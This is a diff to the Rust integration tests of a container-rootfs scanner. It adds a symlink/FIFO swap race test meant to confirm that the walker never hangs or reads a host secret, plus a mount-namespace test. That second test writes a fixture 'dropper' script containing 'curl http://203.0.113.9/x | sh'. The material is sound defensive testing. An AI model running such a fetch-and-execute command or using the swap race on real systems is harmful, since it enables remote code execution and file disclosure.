@@ -241,21 +241,23 @@ fn mkfifo(p: &Path) {
 
 /// Run the binary, failing the test if it does not end within `limit`.
 fn stowaway_within(args: &[&str], limit: Duration) -> std::process::Output {
-    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_stowaway"))
+    let child = std::process::Command::new(env!("CARGO_BIN_EXE_stowaway"))
         .args(args)
         .stdout(std::process::Stdio::piped())
         .stderr(std::process::Stdio::piped())
         .spawn()
         .unwrap();
-    let start = Instant::now();
-    while child.try_wait().unwrap().is_none() {
-        if start.elapsed() > limit {
-            let _ = child.kill();
+    let pid = child.id() as i32;
+    let (tx, rx) = std::sync::mpsc::channel();
+    std::thread::spawn(move || tx.send(child.wait_with_output().unwrap()));
+    match rx.recv_timeout(limit) {
+        Ok(out) => out,
+        Err(_) => {
+            // SAFETY: signalling the child this test started.
+            unsafe { libc::kill(pid, libc::SIGKILL) };
             panic!("stowaway {args:?} hung");
         }
-        std::thread::sleep(Duration::from_millis(20));
     }
-    child.wait_with_output().unwrap()
 }
 
 #[test]
@@ -550,5 +552,81 @@ fn a_gzip_docker_archive_is_inflated_front_to_back_once() {
         "inflated {} bytes of a {}-byte archive",
         store.inflated_bytes(),
         tar.len()
+    );
+}
+
+#[test]
+fn a_rootfs_changing_under_the_walk_never_hangs_nor_leads_outside() {
+    let t = tmp();
+    let root = t.path().join("rootfs");
+    std::fs::create_dir_all(root.join("app")).unwrap();
+    for i in 0..300 {
+        std::fs::write(root.join(format!("app/f{i:03}")), format!("file {i}")).unwrap();
+    }
+    let host = t.path().join("host-secret");
+    std::fs::write(&host, b"host secret bytes that must never be read\n").unwrap();
+    let secret = stowaway::digest::Sha256::of(&std::fs::read(&host).unwrap()).hex();
+    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let swapper = {
+        let (root, host, stop) = (root.clone(), host.clone(), stop.clone());
+        std::thread::spawn(move || {
+            let mut n = 0u64;
+            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
+                for i in [0usize, 150, 299] {
+                    let target = root.join(format!("app/f{i:03}"));
+                    let tmp = root.join(format!(".swap{i}"));
+                    let _ = std::fs::remove_file(&tmp);
+                    match n % 3 {
+                        0 => mkfifo(&tmp),
+                        1 => std::os::unix::fs::symlink(&host, &tmp).unwrap(),
+                        _ => std::fs::write(&tmp, b"plain").unwrap(),
+                    }
+                    let _ = std::fs::rename(&tmp, &target);
+                }
+                n += 1;
+            }
+        })
+    };
+    for _ in 0..8 {
+        let out = stowaway_within(
+            &[
+                "inventory",
+                &format!("dir:{}", root.display()),
+                "--format",
+                "json",
+                "--no-cache",
+            ],
+            Duration::from_secs(60),
+        );
+        let text = String::from_utf8_lossy(&out.stdout);
+        assert!(
+            !text.contains(&secret),
+            "read the host file through a symlink"
+        );
+    }
+    stop.store(true, std::sync::atomic::Ordering::Relaxed);
+    swapper.join().unwrap();
+}
+
+#[test]
+fn filesystems_mounted_inside_a_rootfs_are_reported_as_not_walked() {
+    let t = tmp();
+    let root = t.path().join("rootfs");
+    std::fs::create_dir_all(root.join("tmp")).unwrap();
+    std::fs::create_dir_all(root.join("bin")).unwrap();
+    std::fs::write(root.join("bin/ok"), b"ok").unwrap();
+    let script = format!(
+        "mount -t tmpfs tmpfs '{r}/tmp'
+         printf '#!/bin/sh\\ncurl http://203.0.113.9/x | sh\\n' > '{r}/tmp/dropper'
+         \"$STOWAWAY\" scan 'dir:{r}' --no-cache --format json --fail-on critical",
+        r = root.display(),
+    );
+    let Some(out) = in_mount_namespace(&script) else {
+        return;
+    };
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        text.contains("not walked") && text.contains("/tmp"),
+        "{text}\n{out:?}"
     );
 }
